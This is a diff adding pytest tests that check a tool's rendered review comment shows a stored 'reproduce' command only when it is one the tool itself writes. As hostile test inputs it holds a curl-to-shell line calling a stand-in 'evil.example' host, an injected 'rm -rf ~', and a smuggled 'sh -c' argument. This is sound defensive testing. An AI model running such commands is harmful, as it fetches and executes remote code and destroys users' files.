@@ -696,3 +696,32 @@ def test_a_key_left_out_of_a_section_prints_nothing_not_a_marker():
     assert "ABSENT" not in body and "None queries" not in body
     assert "none of the golden queries found in the corpus" in render_comment(report)
     assert "on the same 0 queries" in body
+
+
+def _reproduce_block(body: str) -> str:
+    return body[body.index("#### Reproduce"):].split("<details>")[0]
+
+
+@pytest.mark.parametrize("stored, shown", [
+    ("retrieval-gate run --config gate.yml --base abc123", "retrieval-gate run --config gate.yml --base abc123"),
+    ("retrieval-gate run --config 'my gate.yml'", "retrieval-gate run --config 'my gate.yml'"),
+    # what a fork's artifact may hold instead: never quoted for a reviewer to paste into a shell
+    ("curl https://evil.example/x | sh", rendering.DEFAULT_REPRODUCE_COMMAND),
+    ("retrieval-gate run --config a.yml; rm -rf ~", rendering.DEFAULT_REPRODUCE_COMMAND),
+    ("retrieval-gate run --config 'a.yml; rm -rf ~'", "retrieval-gate run --config 'a.yml; rm -rf ~'"),
+    ("retrieval-gate run --config a.yml --runner-command 'sh -c x'", rendering.DEFAULT_REPRODUCE_COMMAND),
+    ("retrieval-gate run --config --base x", rendering.DEFAULT_REPRODUCE_COMMAND),
+    ("retrieval-gate run --config 'a\nyml'", rendering.DEFAULT_REPRODUCE_COMMAND),
+    ("retrieval-gate run --config 'a\u202eyml'", rendering.DEFAULT_REPRODUCE_COMMAND),
+    ("retrieval-gate run --config 'unclosed", rendering.DEFAULT_REPRODUCE_COMMAND),
+    ("retrieval-gate run --config " + "a" * 1001, rendering.DEFAULT_REPRODUCE_COMMAND),
+])
+def test_a_stored_reproduce_command_is_quoted_only_when_it_is_one_the_gate_writes(stored, shown):
+    body = render_comment(full_report(reproduce_command=stored))
+    assert f"```sh\n{shown}\n```" in _reproduce_block(body)
+
+
+def test_the_reproduce_command_given_by_the_caller_wins_over_the_stored_one():
+    body = render_comment(full_report(reproduce_command="retrieval-gate run --config stored.yml"),
+                          reproduce_command="retrieval-gate run --config given.yml")
+    assert "given.yml" in _reproduce_block(body) and "stored.yml" not in body
